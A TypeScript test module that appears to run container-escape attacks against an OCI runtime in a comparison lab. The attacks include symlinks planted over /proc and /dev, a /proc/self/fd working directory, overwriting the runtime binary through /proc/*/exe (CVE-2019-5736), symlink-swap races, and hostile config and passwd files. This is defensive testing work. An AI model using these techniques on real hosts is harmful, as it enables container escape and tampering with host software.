/** Attacks that need no more of a runtime than its command line. Each says what became of it, in a cell of compare.ts's table. */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  closeSync,
  mkdirSync,
  openSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Mutate, TestSpec } from '../support/lab.js';
import { Decoy, type Outcome, type Victim } from './victim.js';

type Attack = (victim: Victim, rounds: number) => string | Promise<string>;

/** What became of many tries. */
class Tally {
  readonly #harm = new Map<string, number>();
  #ran = 0;
  #refused = 0;
  #hung = 0;

  add({ code, hung }: Outcome, harm: readonly string[]): void {
    if (hung) ++this.#hung;
    else if (code === 0) ++this.#ran;
    else ++this.#refused;
    for (const each of harm) this.#harm.set(each, (this.#harm.get(each) ?? 0) + 1);
  }

  toString(): string {
    const tries = [
      this.#ran > 0 ? `${this.#ran} ran` : '',
      this.#refused > 0 ? `${this.#refused} refused` : '',
      this.#hung > 0 ? `**${this.#hung} hung**` : '',
    ];
    const ends = tries.filter(Boolean).join(', ');
    if (this.#harm.size === 0) return `nothing harmed; ${ends}`;
    const harm = [...this.#harm].map(([what, count]) =>
      count === 1 ? what : `${what} (${count} times)`,
    );
    return `**${harm.join('; ')}**; ${ends}`;
  }
}

const script = (...lines: string[]): string[] => ['sh', '-c', lines.join('\n')];

const plantedLinks: Attack = (victim) => {
  const places = [
    ...['/proc', '/sys', '/dev', '/dev/null', '/dev/pts', '/dev/shm', '/dev/mqueue'],
    ...['/dev/console', '/dev/ptmx', '/dev/fd', '/etc', '/tmp', '/work'],
  ];
  const tally = new Tally();
  for (const place of places) {
    for (const target of ['file', 'sub', 'up', '/proc/self/root', '/proc/self/fd/4']) {
      const host = new Decoy(victim.folder);
      const to: Record<string, string> = {
        file: join(host.folder, 'file'),
        sub: join(host.folder, 'sub'),
        up: `${'../'.repeat(40)}${host.folder.slice(1)}/sub`,
      };
      const bundle = victim.bundle((spec, folder) => {
        const planted = join(folder, 'rootfs', place);
        rmSync(planted, { recursive: true, force: true });
        mkdirSync(dirname(planted), { recursive: true });
        symlinkSync(to[target] ?? target, planted);
        host.watch(spec);
        // What is in the image's own /dev counts only when nothing is mounted over it.
        if (place.startsWith('/dev/'))
          spec.mounts = spec.mounts.filter(({ destination }) => destination !== '/dev');
        spec.mounts.push({ destination: '/tmp/sub', type: 'tmpfs', source: 'tmpfs' });
        spec.process.cwd = '/work';
        spec.process.args = ['/bin/busybox', 'grep', 'precious', join(host.folder, 'file')];
      });
      const { said, ...outcome } = victim.run(bundle);
      // grep ends with a failure where it finds no such file.
      const ran = outcome.code === 0 || /: No such file or directory\n$/.test(said);
      const seen = said.includes('precious\n') ? ['a file of the host was read'] : [];
      tally.add({ ...outcome, said, code: ran ? 0 : 1 }, [...host.harm(), ...seen]);
    }
  }
  return String(tally);
};

const workingDirectory: Attack = (victim) => {
  const ways = [
    ...Array.from({ length: 24 }, (_, fd) => `/proc/self/fd/${fd}`),
    ...['/proc/self/fd/7/../../..', '/proc/self/cwd', '/proc/1/cwd', '/dev/fd/7'],
  ];
  const tally = new Tally();
  const fds = Array.from({ length: 5 }, () => openSync('/', 'r'));
  try {
    for (const cwd of ways) {
      const bundle = victim.bundle((spec) => {
        spec.process.cwd = cwd;
        // From there, since the root is the container's.
        spec.process.args = script(
          `ls -d ./${victim.folder} ../..${victim.folder} 2>/dev/null; true`,
        );
      });
      const outcome = victim.run(bundle, { fds });
      const escaped = outcome.code === 0 && outcome.said.includes(victim.folder);
      tally.add(outcome, escaped ? ['the program ran in a folder of the host'] : []);
    }
  } finally {
    for (const fd of fds) closeSync(fd);
  }
  return String(tally);
};

const leakedDescriptors: Attack = (victim) => {
  const fds = Array.from({ length: 5 }, () => openSync('/', 'r'));
  try {
    const bundle = victim.bundle((spec) => {
      spec.process.args = script('for each in /proc/$$/fd/*; do readlink $each; done; true');
    });
    const outcome = victim.run(bundle, { fds });
    const tally = new Tally();
    const leaked = outcome.said.split('\n').includes('/');
    tally.add(outcome, leaked ? ['a folder of the host was open in the container'] : []);
    return String(tally);
  } finally {
    for (const fd of fds) closeSync(fd);
  }
};

const allPowerful = ({ process }: TestSpec): void => {
  const all = ['CAP_SYS_ADMIN', 'CAP_SYS_PTRACE', 'CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH'];
  process.capabilities = { bounding: all, effective: all, permitted: all };
};

/** CVE-2019-5736: the container's program writes to that of whatever process comes. */
const overwrite: Attack = (victim, rounds) => {
  const digest = (): string =>
    createHash('sha256').update(readFileSync(victim.program)).digest('hex');
  const before = digest();
  const bundle = victim.bundle((spec, folder) => {
    allPowerful(spec);
    const evil = join(folder, 'rootfs/bin/evil');
    writeFileSync(evil, '#!/proc/self/exe\n', { mode: 0o755 });
    spec.process.args = script(
      'while :; do for each in /proc/[0-9]*; do',
      '  case $each in /proc/1|/proc/$$) continue;; esac',
      '  printf broken 2>/dev/null 1<> $each/exe',
      'done; done 2>/dev/null',
    );
  });
  const id = victim.id();
  const detached = victim.call(['run', '--detach', '--bundle', bundle, id]);
  if (detached.code !== 0) throw new Error(detached.said);
  const tally = new Tally();
  for (let round = 0; round < rounds; round++) {
    const program = round % 2 === 0 ? '/bin/true' : '/bin/evil';
    const outcome = victim.call(['exec', id, program]);
    const broken = digest() !== before;
    tally.add(outcome, broken ? ["the runtime's program was written over"] : []);
    if (broken) break;
  }
  victim.call(['delete', '--force', id]);
  return String(tally);
};

/** The container's whole /dev is a folder that its neighbour can write to as well. */
const sharedDev =
  (fill: (dev: string) => void): Mutate =>
  (spec, bundle) => {
    const dev = join(bundle, 'dev');
    for (const name of ['pts', 'shm', 'mqueue']) mkdirSync(join(dev, name), { recursive: true });
    fill(dev);
    spec.mounts = spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'));
    spec.mounts.push({ destination: '/dev', type: 'bind', source: dev, options: ['rbind'] });
  };

/** What is bound over a masked path is what the image's link names: the attack has files of /proc written so. */
const falseNull: Attack = (victim) => {
  const tally = new Tally();
  const host = new Decoy(victim.folder);
  for (const target of [join(host.folder, 'null'), '/proc/version']) {
    const bundle = victim.bundle((spec, folder) => {
      sharedDev((dev) => symlinkSync(target, join(dev, 'null')))(spec, folder);
      spec.linux.maskedPaths = ['/etc/passwd'];
      spec.process.args = script('cat /etc/passwd');
    });
    const outcome = victim.run(bundle);
    const seen = /precious|Linux version/.test(outcome.said)
      ? ["the image's choice was bound"]
      : [];
    tally.add(outcome, [...host.harm(), ...seen]);
  }
  return String(tally);
};

/** Swaps a folder that the container shares with a link to one of the host's, all the time. */
const race =
  (configure: (spec: TestSpec) => void): Attack =>
  async (victim, rounds) => {
    const host = new Decoy(victim.folder);
    let shared = '';
    const bundle = victim.bundle((spec, folder) => {
      shared = join(folder, 'rootfs/shared');
      mkdirSync(join(shared, 'way'), { recursive: true });
      writeFileSync(join(shared, 'way/file'), '');
      symlinkSync(host.folder, join(shared, 'link'));
      spec.process.args = script('cat /shared/*/file 2>/dev/null; true');
      configure(spec);
      host.watch(spec);
    });
    const racer = await startRacer(join(shared, 'way'), join(shared, 'link'));
    const tally = new Tally();
    try {
      for (let round = 0; round < rounds; round++) {
        const outcome = victim.run(bundle);
        const seen = outcome.said.includes('precious') ? ['a file of the host was read'] : [];
        const harm = [...host.harm(), ...seen];
        tally.add(outcome, harm);
        if (harm.length > 0) break;
      }
    } finally {
      racer.stdin?.end();
      await once(racer, 'exit');
    }
    return String(tally);
  };

async function startRacer(one: string, other: string): Promise<ChildProcess> {
  const program = fileURLToPath(new URL('../support/racer.py', import.meta.url));
  const child = spawn('python3', [program, one, other], { stdio: ['pipe', 'pipe', 'inherit'] });
  await once(child.stdout as NonNullable<ChildProcess['stdout']>, 'data');
  child.stdout?.resume();
  return child;
}

const falseProc: Attack = (victim) => {
  const tally = new Tally();
  const makes: Mutate[] = [
    (spec) => {
      const proc = spec.mounts.find(({ destination }) => destination === '/proc');
      if (proc) Object.assign(proc, { type: 'tmpfs', source: 'tmpfs' });
    },
    (spec, folder) => {
      const source = join(folder, 'proc');
      mkdirSync(join(source, 'sys/kernel'), { recursive: true });
      const proc = spec.mounts.find(({ destination }) => destination === '/proc');
      if (proc) Object.assign(proc, { type: 'bind', source, options: ['bind'] });
    },
  ];
  for (const make of makes) {
    const bundle = victim.bundle((spec, folder) => {
      make(spec, folder);
      spec.linux.sysctl = { 'kernel.msgmax': '9000' };
      spec.linux.maskedPaths = [];
      spec.linux.readonlyPaths = [];
    });
    const outcome = victim.run(bundle);
    const swallowed = outcome.code === 0 ? ['started over a /proc that is none'] : [];
    tally.add(outcome, swallowed);
  }
  return String(tally);
};

const names: Attack = (victim) => {
  const tally = new Tally();
  const bundle = victim.bundle();
  for (const id of ['../x', 'a/b', '..', '.', '', 'a'.repeat(300), 'a\nb']) {
    const outcome = victim.call(['run', '--bundle', bundle, '--', id]);
    tally.add(outcome, outcome.code === 0 ? [`took ${JSON.stringify(id.slice(0, 9))}`] : []);
  }
  return String(tally);
};

/** A user that isn't a number is to be refused, not to become another one. */
const users: Attack = (victim) => {
  const bundle = victim.bundle((spec) => {
    spec.process.args = ['sleep', '1000'];
  });
  const id = victim.id();
  const detached = victim.call(['run', '--detach', '--bundle', bundle, id]);
  if (detached.code !== 0) throw new Error(detached.said);
  const tally = new Tally();
  for (const user of ['010', '0x10', '1e3', '7x', ' 7', '+7', '-1', '4294967296', '4294967303']) {
    const outcome = victim.call(['exec', `--user=${user}`, id, 'id', '-u']);
    const uid = outcome.said.trim();
    const wrong = outcome.code === 0 && Number(uid) !== (/^\d+$/.test(user) ? Number(user) : NaN);
    tally.add(outcome, wrong ? [`${JSON.stringify(user)} became ${uid}`] : []);
  }
  victim.call(['delete', '--force', id]);
  return String(tally);
};

const hostileConfigurations: Attack = (victim) => {
  const tally = new Tally();
  const put = (write: (file: string) => void): void => {
    const bundle = victim.bundle();
    const file = join(bundle, 'config.json');
    rmSync(file);
    write(file);
    const outcome = victim.run(bundle, { seconds: 15 });
    tally.add(outcome, outcome.code === 0 ? ['ran'] : []);
  };
  put((file) => execFileSync('mkfifo', [file]));
  put((file) => symlinkSync('/dev/zero', file));
  put((file) => writeFileSync(file, `${'['.repeat(100_000)}${']'.repeat(100_000)}`));
  put((file) => writeFileSync(file, `{"ociVersion":"1.0.2","x":"${'x'.repeat(100 << 20)}"}`));
  return String(tally);
};

const endlessPasswd: Attack = (victim) => {
  const tally = new Tally();
  for (const make of [
    (file: string) => execFileSync('mkfifo', [file]),
    (file: string) => symlinkSync('/dev/zero', file),
    (file: string) => execFileSync('truncate', ['-s', '100G', file]),
  ]) {
    const bundle = victim.bundle((spec, folder) => {
      mkdirSync(join(folder, 'rootfs/etc'), { recursive: true });
      const file = join(folder, 'rootfs/etc/passwd');
      rmSync(file, { force: true });
      make(file);
      // Whose home is to be looked up.
      spec.process.env = ['PATH=/bin'];
      spec.process.user = { uid: 12, gid: 12 };
    });
    tally.add(victim.run(bundle, { seconds: 15 }), []);
  }
  return String(tally);
};

const inheritable: Attack = (victim) => {
  const bundle = victim.bundle((spec) => {
    spec.process.args = ['sleep', '1000'];
  });
  const id = victim.id();
  const detached = victim.call(['run', '--detach', '--bundle', bundle, id]);
  if (detached.code !== 0) throw new Error(detached.said);
  const outcome = victim.call([
    ...['exec', '--cap', 'CAP_NET_RAW', id],
    ...['grep', 'CapInh', '/proc/self/status'],
  ]);
  victim.call(['delete', '--force', id]);
  const tally = new Tally();
  const given = /CapInh:\s*0*[1-9a-f]/.test(outcome.said);
  tally.add(outcome, given ? ['exec gave capabilities to inherit'] : []);
  return String(tally);
};

export const attacks: readonly { readonly name: string; readonly attack: Attack }[] = [
  { name: 'links planted where the runtime makes and mounts things', attack: plantedLinks },
  { name: 'a working directory below /proc/self/fd (CVE-2024-21626)', attack: workingDirectory },
  { name: "the caller's descriptors in the container", attack: leakedDescriptors },
  { name: "writing over the runtime's program (CVE-2019-5736)", attack: overwrite },
  {
    name: 'a link that changes on a mount’s target (CVE-2021-30465)',
    attack: race((spec) => {
      spec.mounts.push(
        { destination: '/shared/way/sub', type: 'tmpfs', source: 'tmpfs' },
        { destination: '/shared/way/new/deep', type: 'tmpfs', source: 'tmpfs' },
        { destination: '/shared/way/file', type: 'bind', source: '/dev/null', options: ['bind'] },
      );
    }),
  },
  {
    name: 'a link that changes where devices are made (CVE-2024-45310)',
    attack: race((spec) => {
      spec.linux.devices = [
        { type: 'c', path: '/shared/way/null', major: 1, minor: 3, fileMode: 0o666 },
        { type: 'c', path: '/shared/way/made/zero', major: 1, minor: 5, fileMode: 0o666 },
      ];
    }),
  },
  {
    name: 'a link that changes on masked and read-only paths',
    attack: race((spec) => {
      spec.linux.maskedPaths = ['/shared/way/file', '/shared/way/sub'];
      spec.linux.readonlyPaths = ['/shared/way'];
    }),
  },
  { name: 'a false /dev/null over masked paths (CVE-2025-31133)', attack: falseNull },
  { name: 'a false /proc that takes sysctls (CVE-2019-19921, 2025-52881)', attack: falseProc },
  { name: 'capabilities to inherit by exec (CVE-2022-29162)', attack: inheritable },
  { name: 'IDs that lead elsewhere', attack: names },
  { name: 'users of exec that are no numbers (CVE-2026-30892)', attack: users },
  {
    name: 'config.json: a FIFO, /dev/zero, 100,000 levels deep, 100 MiB',
    attack: hostileConfigurations,
  },
  { name: '/etc/passwd of the image: a FIFO, /dev/zero, 100 GB', attack: endlessPasswd },
];
